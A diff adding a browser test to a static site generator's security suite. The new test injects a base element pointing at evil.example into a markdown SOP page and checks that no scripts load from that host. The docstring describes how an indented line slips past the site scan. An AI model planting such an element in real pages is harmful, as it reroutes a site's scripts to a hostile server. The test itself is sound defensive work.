@@ -399,3 +399,12 @@ def test_markdown_in_a_team_s_files_folder_is_not_a_page_built_unchecked(browser
     pages = [p.relative_to(site).as_posix() for p in (site / "teams" / "it" / "files").rglob("*.html")]
     found = browse(browser, site, *[p.removesuffix("index.html") for p in pages])
     assert not pages and not found, f"pages built from files/: {pages}; {found}"
+
+
+def test_a_base_element_that_reaches_the_page_is_caught_by_the_site_scan(browser, tmp_path):
+    """The site scan does not look at <base>. One that reaches a page (here through a body whose
+    first line is indented, which the check reads as code) moves every relative address after
+    it, the theme's own scripts included, to another site: they load from there."""
+    site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <base href="https://evil.example/">\n\nHello.\n'})
+    found = browse(browser, site, "teams/it/sops/outage/")
+    assert not [f for f in found if "evil.example" in f], found
